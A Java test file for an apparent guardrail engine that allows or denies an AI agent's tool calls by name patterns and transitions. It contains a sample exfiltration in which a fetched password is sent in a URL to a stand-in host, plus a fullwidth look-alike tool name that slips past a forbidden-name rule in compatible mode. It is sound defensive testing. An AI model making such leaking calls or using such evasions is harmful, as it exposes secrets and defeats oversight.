package io.weir.engine.policy.foreign;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.weir.engine.policy.Policy;
import io.weir.engine.policy.PolicyDesk;
import io.weir.engine.policy.PolicyFile;
import io.weir.engine.policy.file.PolicyFiles;
import io.weir.engine.policy.pack.PolicyPacks;
import io.weir.engine.policy.text.PolicyProblem;
import io.weir.engine.state.StateTable;
import io.weir.schemas.word.Decision;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What intent policies do, and for each known defect of the original what we do in either mode. */
class IntentPolicyTest {

    private static final String HEAD = "name: p\ndescription: d\nexpected_workflow: w\n";

    private static final String EXFILTRATION = HEAD + """
            allowed_tools: [get_secret, add, fetch_url]
            allowed_transitions:
              get_secret: [add, get_secret]
              add: [add, fetch_url]
            fast_path_allow: true
            """;

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "allowed_tools: [read_*]                                | read_file  | ALLOW",
                "allowed_tools: [read_*]                                | write_file | DENY",
                "allowed_tools: ['*']                                   | anything   | ALLOW",
                "forbidden_tools: ['*']                                 | anything   | DENY",
                "{allowed_tools: ['*'], forbidden_tools: [drop_*]}      | drop_all   | DENY",
                "{allowed_tools: [read_file, 'list_?'], forbidden_tools: []} | list_a  | ALLOW",
                "{allowed_tools: [], forbidden_tools: []}               | anything   | ALLOW",
                "{allowed_tools: ['[rl]ead_*']}                         | lead_x     | ALLOW",
                "{allowed_tools: ['[!r]ead_*']}                         | read_x     | DENY",
                "{forbidden_tools: [write_*], case_insensitive_patterns: true}  | Write_File | DENY",
                "{forbidden_tools: [write_*]}                           | Write_File | ALLOW"
            })
    void decidesByToolNames(String members, String tool, Decision decision) {
        String yaml = HEAD + (members.startsWith("{") ? "" : members + "\n");
        String text = members.startsWith("{")
                ? "{name: p, description: d, expected_workflow: w, " + members.substring(1)
                : yaml;

        assertThat(decide(desk(text, ForeignMode.COMPAT), tool)).isEqualTo(decision);
    }

    @Test
    void followsTransitionsFromTheLastToolThatWentOut() {
        PolicyDesk desk = desk(EXFILTRATION, ForeignMode.COMPAT);

        assertThat(decide(desk, "get_secret")).isEqualTo(Decision.ALLOW);
        assertThat(decide(desk, "fetch_url")).isEqualTo(Decision.DENY);
        assertThat(decide(desk, "add")).as("the denied call moved nothing").isEqualTo(Decision.ALLOW);
        assertThat(decide(desk, "fetch_url")).isEqualTo(Decision.ALLOW);
        assertThat(decide(desk, "get_secret"))
                .as("fetch_url is no key, so anything may follow")
                .isEqualTo(Decision.ALLOW);
    }

    @Test
    void theFirstCallOfASessionIsNoTransition() {
        assertThat(decide(desk(EXFILTRATION, ForeignMode.COMPAT), "fetch_url")).isEqualTo(Decision.ALLOW);
    }

    @Test
    void transitionsSurviveARestartBecauseTheyLieInTheStateTable() {
        PolicyDesk before = desk(EXFILTRATION, ForeignMode.COMPAT);
        decide(before, "get_secret");
        StateTable table = before.state();

        assertThat(decide(desk(EXFILTRATION, ForeignMode.COMPAT).on(table), "fetch_url"))
                .isEqualTo(Decision.DENY);
    }

    @Test
    void lineageStopsTheSecretThatTheTransitionsLetThrough() {
        // Given: secret, adder, fetch, which the graph permits
        List<Policy> policies =
                new ArrayList<>(read(EXFILTRATION, ForeignMode.COMPAT).policies());
        policies.addAll(PolicyFiles.read("lineage.yaml", PolicyPacks.text("lineage"), ForeignMode.COMPAT)
                .policies());
        PolicyDesk desk = PolicyDesk.with(policies);
        desk.reads("get_secret", Map.of("password", "tr0ub4dor-Q7x-99-staple", "note", "database password"));
        desk.reads("add", Map.of("sum", 3));

        // When
        Decision harmless = decide(desk, "fetch_url", Map.of("url", "https://far.test/weather"));
        Decision leak = decide(desk, "fetch_url", Map.of("url", "https://far.test/c?d=tr0ub4dor-Q7x-99-staple"));

        // Then
        assertThat(harmless).isEqualTo(Decision.ALLOW);
        assertThat(leak).isEqualTo(Decision.DENY);
    }

    @Test
    void aScalarForAListIsRefusedInBothModes() {
        for (ForeignMode mode : ForeignMode.values()) {
            assertThatThrownBy(() -> read(HEAD + "allowed_tools: read_*\n", mode))
                    .hasMessageContaining(
                            "p.yaml:4:16: error: 'allowed_tools' must be a list, it is a text; write [read_*]");
        }
    }

    @Test
    void anExplicitNothingRestrictsNothingWithAWarningAndIsRefusedInStrictMode() {
        String text = HEAD + "forbidden_tools:\n";

        assertThat(warnings(read(text, ForeignMode.COMPAT))).anyMatch(line -> line.contains("restricts nothing"));
        assertThatThrownBy(() -> read(text, ForeignMode.STRICT))
                .hasMessageContaining("'forbidden_tools' holds nothing");
    }

    @ParameterizedTest
    @CsvSource({"COMPAT, ALLOW", "STRICT, DENY"})
    void lookAlikesOfForbiddenNamesAreForbiddenInStrictMode(ForeignMode mode, Decision decision) {
        PolicyDesk desk = desk(HEAD + "forbidden_tools: [write_*]\n", mode);

        assertThat(decide(desk, "\uff57rite_file")).isEqualTo(decision);
        assertThat(decide(desk, "WRITE_file")).isEqualTo(decision);
        assertThat(decide(desk, "write_file")).isEqualTo(Decision.DENY);
    }

    @ParameterizedTest
    @CsvSource({"COMPAT, ALLOW", "STRICT, DENY"})
    void anEmptyListOfTransitionsIsTerminalInStrictModeOnly(ForeignMode mode, Decision decision) {
        String text = HEAD + "allowed_transitions: {finish: []}\n";
        PolicyDesk desk = desk(text, mode);
        decide(desk, "finish");

        assertThat(decide(desk, "more")).isEqualTo(decision);
        assertThat(warnings(read(text, mode)).stream().anyMatch(line -> line.contains("reads as terminal")))
                .isEqualTo(mode == ForeignMode.COMPAT);
    }

    @ParameterizedTest
    @CsvSource({"COMPAT, ALLOW", "STRICT, DENY"})
    void patternsInTransitionsWorkInStrictModeOnly(ForeignMode mode, Decision decision) {
        String text = HEAD + "allowed_transitions: {'read_*': ['sum*']}\n";
        PolicyDesk desk = desk(text, mode);
        decide(desk, "read_file");

        assertThat(decide(desk, "send_mail")).isEqualTo(decision);
        assertThat(warnings(read(text, mode)).stream().anyMatch(line -> line.contains("never fires")))
                .isEqualTo(mode == ForeignMode.COMPAT);
    }

    @Test
    void unknownAndMissingMembersAreRefusedAndTheKeysOfAllVersionsAreKnown() {
        assertThatThrownBy(() -> read(HEAD + "alowed_tools: [a]\nallowed_tools: [a]\n", ForeignMode.COMPAT))
                .hasMessageContaining(
                        "there is no member of an intent policy 'alowed_tools'; did you mean 'allowed_tools'?");
        assertThatThrownBy(() -> read("name: p\nallowed_tools: [a]\n", ForeignMode.COMPAT))
                .hasMessageContaining("'description' is missing")
                .hasMessageContaining("'expected_workflow' is missing");
        assertThat(read(HEAD + "fast_path_allow: true\ncase_insensitive_patterns: true\n", ForeignMode.STRICT)
                        .policies())
                .hasSize(1);
    }

    @Test
    void yamlIsReadWhateverTheLetterCaseOfTheEnding() {
        assertThat(PolicyFiles.read("P.YAML", HEAD + "allowed_tools: [a]\n", ForeignMode.COMPAT)
                        .policies())
                .hasSize(1);
        assertThat(PolicyFiles.read(
                                "p.json",
                                "{\"name\": \"p\", \"description\": \"d\", \"expected_workflow\": \"w\","
                                        + " \"allowed_tools\": [\"a\"]}",
                                ForeignMode.COMPAT)
                        .policies())
                .hasSize(1);
    }

    @Test
    void saysThatUndecidedCallsAreLeftToTheJudgement() {
        assertThat(warnings(read(HEAD + "constraints: [be good]\n", ForeignMode.COMPAT)))
                .anyMatch(line -> line.contains("left to Weir's own judgement"));
        assertThat(warnings(read(HEAD + "fast_path_allow: true\n", ForeignMode.COMPAT)))
                .isEmpty();
    }

    private static PolicyDesk desk(String text, ForeignMode mode) {
        return PolicyDesk.with(read(text, mode).policies());
    }

    private static PolicyFile read(String text, ForeignMode mode) {
        return PolicyFiles.read("p.yaml", text, mode);
    }

    private static List<String> warnings(PolicyFile file) {
        return file.warnings().stream().map(PolicyProblem::line).toList();
    }

    private static Decision decide(PolicyDesk desk, String tool) {
        return decide(desk, tool, Map.of());
    }

    private static Decision decide(PolicyDesk desk, String tool, Map<String, Object> body) {
        return desk.calls(tool, body).event().outcome().decision();
    }
}
